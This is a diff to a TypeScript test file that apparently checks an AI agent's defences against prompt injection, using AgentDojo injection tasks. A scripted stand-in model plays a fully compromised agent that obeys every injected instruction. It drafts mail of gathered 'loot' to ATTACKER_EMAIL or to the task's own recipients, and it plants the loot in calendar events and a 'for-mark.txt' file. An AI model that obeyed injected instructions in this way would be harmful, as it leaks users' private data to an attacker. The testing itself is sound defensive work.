@@ -46,7 +46,7 @@ import { planProposal } from '../../electron/engine/suggestions/planner.js';
 import { ManualClock } from '../../electron/engine/testing/memory-engine-parts.js';
 import { FAST_RETRIES } from '../agent/agent-parts.js';
 import { dataBlocks, type DataBlock } from '../agent/scripted-model.js';
-import { ATTACKER_EMAIL, injectionTasks, loadWorkspace, type Workspace } from '../datasets/agentdojo.js';
+import { ATTACKER_EMAIL, injectionTasks, loadWorkspace, type InjectionTask, type Workspace } from '../datasets/agentdojo.js';
 import { WORKSPACE_ZONE } from '../datasets/agentdojo-calendar.js';
 import { accountInput } from '../engine-fixture.js';
 import { createGmailUser } from '../fixtures.js';
@@ -91,6 +91,8 @@ interface Attacker {
   target: 'caldav' | 'google';
   /** What the attacker saw in tool results: events and files by id. */
   readonly seen: Map<string, DataBlock>;
+  /** The mail the injection task asks for (its own send_email), else everything to the attacker. */
+  readonly mail: { readonly to: readonly string[]; readonly subject: string; readonly body: string } | null;
   /** Every write call it made, by tool name. */
   readonly calls: { tool: string; input: Record<string, unknown> }[];
 }
@@ -139,7 +141,7 @@ function attackerModel(attacker: Attacker): (request: StandinRequest) => Standin
       attacker.calls.push({ tool: name, input });
       calls.push(use(name, { ...input, reason }));
     };
-    call('email_draft', { to: [ATTACKER_EMAIL], subject: 'Fwd: everything you asked for', body: loot });
+    call('email_draft', attacker.mail ? { ...attacker.mail, body: `${attacker.mail.body}\n\n${loot}`.slice(0, 20_000) } : { to: [ATTACKER_EMAIL], subject: 'Fwd: everything you asked for', body: loot });
     const events = [...attacker.seen.values()].filter((b) => b.kind === 'event' && (attacker.target === 'caldav') === (b.fields.calendar === 'work'));
     const calendar = events[0]?.fields.calendar;
     call('calendar_create', {
@@ -156,6 +158,15 @@ function attackerModel(attacker: Attacker): (request: StandinRequest) => Standin
     if (file?.fields.folder) call('files_create', { folder: file.fields.folder, name: 'for-mark.txt', content: loot });
     return calls.length > 0 ? message(calls) : textReply('Nothing I can do here.');
   };
+}
+
+/** The injection task's own send_email, as the arguments of a draft. */
+function injectedMail(task: InjectionTask): Attacker['mail'] {
+  const send = task.groundTruth.find((c) => c.function === 'send_email');
+  if (!send) return null;
+  const text = (value: unknown, fallback: string) => (typeof value === 'string' && value.length > 0 ? value : fallback);
+  const to = Array.isArray(send.args.recipients) ? send.args.recipients.map(String) : [ATTACKER_EMAIL];
+  return { to, subject: text(send.args.subject, 'As you asked'), body: text(send.args.body, 'See below.') };
 }
 
 function lastCallWasWrite(messages: readonly WireMessage[]): boolean {
@@ -359,7 +370,7 @@ describe('a model that obeys every injected instruction, live, against every ser
 
     // The live agent loop: two reviews (one going after each calendar) and a reply draft to the
     // message that carries the attack, with the stand-in as the attacker.
-    const attacker: Attacker = { target: 'caldav', seen: new Map(), calls: [] };
+    const attacker: Attacker = { target: 'caldav', seen: new Map(), calls: [], mail: injectedMail(task) };
     standin.reset();
     standin.respondWith(attackerModel(attacker));
     const mailIds = (parts.db.prepare(`SELECT item_id AS id FROM mail_messages ORDER BY item_id`).all() as { id: string }[]).map((r) => r.id);
